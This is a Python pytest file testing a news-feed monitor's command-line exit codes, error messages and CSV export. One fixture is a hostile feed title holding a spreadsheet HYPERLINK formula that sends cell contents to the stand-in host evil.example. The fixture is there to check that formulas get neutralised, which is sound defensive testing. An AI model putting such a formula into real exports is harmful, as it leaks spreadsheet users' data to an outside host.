"""Exit codes and one-line messages a cron job or supervisor can act on, through the real command
line: `once` and failed feeds, a taken metrics port, a read-only database folder, an unknown
`hits --rule`; and CSV exports that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import io
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from support.cli import invoke, write_config
from support.feedserver import FeedServer

from monitor.cli.csv_out import FORMULA_STARTS, neutralise
from tests.e2e.feeds import ARMS_1, QUIET, Entry, rss

NOBODY = 65534


@pytest.fixture
def feeds(feed_server: FeedServer) -> FeedServer:
    feed_server.route("/wire.xml", rss("Wire", [ARMS_1, QUIET]))
    feed_server.route("/gone.xml", "gone", status=404)
    return feed_server


def test_once_exits_1_only_when_no_feed_could_be_fetched_unless_strict(tmp_path: Path, feeds: FeedServer) -> None:
    some_fail = write_config(
        tmp_path, f"  - {{url: '{feeds.url('/wire.xml')}', name: Wire}}\n  - {{url: '{feeds.url('/gone.xml')}'}}\n"
    )
    code, out, err = invoke("once", "--config", str(some_fail))
    assert code == 0, err
    assert "Wire: ok" in out and "error — http_status: HTTP 404" in out

    code, out, err = invoke("once", "--strict", "--config", str(some_fail))
    assert code == 1 and "Wire:" in out and err == "1 of 2 feeds failed\n"

    all_fail = write_config(tmp_path, f"  - {{url: '{feeds.url('/gone.xml')}'}}\n")
    code, out, err = invoke("once", "--config", str(all_fail))
    assert code == 1 and "HTTP 404" in out and err == "1 of 1 feeds failed\n"


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """`python -m monitor ARGS…` in a child process."""
    env = {key: value for key, value in os.environ.items() if not key.startswith("MONITOR_")}
    return subprocess.run(
        [sys.executable, "-m", "monitor", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=60
    )


def test_a_taken_metrics_port_is_one_line_and_exit_2(tmp_path: Path) -> None:
    config = write_config(tmp_path, "  []\n")
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        result = run("run", "--config", str(config), "--metrics-port", str(port), cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    last = result.stderr.splitlines()[-1]
    assert last == f"--metrics-port: cannot listen on 127.0.0.1:{port} for metrics: Address already in use"


@pytest.fixture
def shared_folder() -> Iterator[Path]:
    """A folder another user can enter (pytest's tmp_path is private to its owner)."""
    folder = Path(tempfile.mkdtemp(prefix="monitor-ro-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


@contextmanager
def unprivileged() -> Iterator[None]:
    """Root writes into any folder, so under root the commands run with nobody's effective ids.
    (In-process: the venv's interpreter may sit where nobody cannot execute it.)"""
    if os.geteuid() != 0:
        yield
        return
    os.setegid(NOBODY)
    os.seteuid(NOBODY)
    try:
        yield
    finally:
        os.seteuid(0)
        os.setegid(0)


def test_a_read_only_database_folder_is_one_line_and_exit_2(shared_folder: Path) -> None:
    data = shared_folder / "data"
    data.mkdir()
    config = write_config(shared_folder, "  []\n", database=f"sqlite:///{data / 'monitor.db'}")
    for path in (shared_folder / "rules", shared_folder / "rules" / "main.yaml", config):
        path.chmod(0o755 if path.is_dir() else 0o644)
    data.chmod(0o555)
    for command in (["once"], ["db", "upgrade"], ["hits"]):
        with unprivileged():
            code, out, err = invoke(*command, "--config", str(config))
        assert code == 2 and out == "", (command, err)
        assert err == (
            f"the database folder {data} is not writable (SQLite keeps its journal and lock files beside monitor.db)\n"
        ), command


def test_hits_for_an_unknown_rule_exits_2_naming_it(tmp_path: Path, feeds: FeedServer) -> None:
    config = write_config(tmp_path, f"  - {{url: '{feeds.url('/wire.xml')}', name: Wire}}\n")
    assert invoke("once", "--config", str(config))[0] == 0
    code, _, err = invoke("hits", "--rule", "dprk-russia-arm", "--config", str(config))
    assert code == 2 and err == "--rule: no rule with id 'dprk-russia-arm' (not in the rules, not in any stored hit)\n"
    code, out, _ = invoke("hits", "--rule", "iran-drones-russia", "--config", str(config))
    assert code == 0 and "0 hits" in out, "a loaded rule without hits is not an error"
    (tmp_path / "rules" / "main.yaml").write_text("rules: []\n", encoding="utf-8")
    code, out, _ = invoke("hits", "--rule", "dprk-russia-arms", "--config", str(config))
    assert code == 0 and "1 hits" in out, "a rule since removed still has its stored hits"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_cells_a_spreadsheet_would_evaluate_get_a_quote(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_harmless_cells_are_unchanged() -> None:
    assert [neutralise(value) for value in ("North Korea", "a=b", "", 7, None)] == ["North Korea", "a=b", "", 7, None]


def test_hits_csv_neutralises_formulas_from_feeds(tmp_path: Path, feed_server: FeedServer) -> None:
    hostile = Entry(
        "evil-1",
        '=HYPERLINK("https://evil.example/?leak="&A1,"North Korean artillery shells sent to Russia")',
        "@SUM(1+1) Pyongyang shipped artillery shells to Russia.",
        "https://example.org/evil/1",
    )
    feed_server.route("/evil.xml", rss("Evil", [hostile]))
    config = write_config(tmp_path, f"  - {{url: '{feed_server.url('/evil.xml')}', name: '-Evil'}}\n")
    assert invoke("once", "--config", str(config))[0] == 0

    code, out, _ = invoke("hits", "--format", "csv", "--config", str(config))

    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["title"] == "'" + hostile.title
    assert row["feed"] == "'-Evil"
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
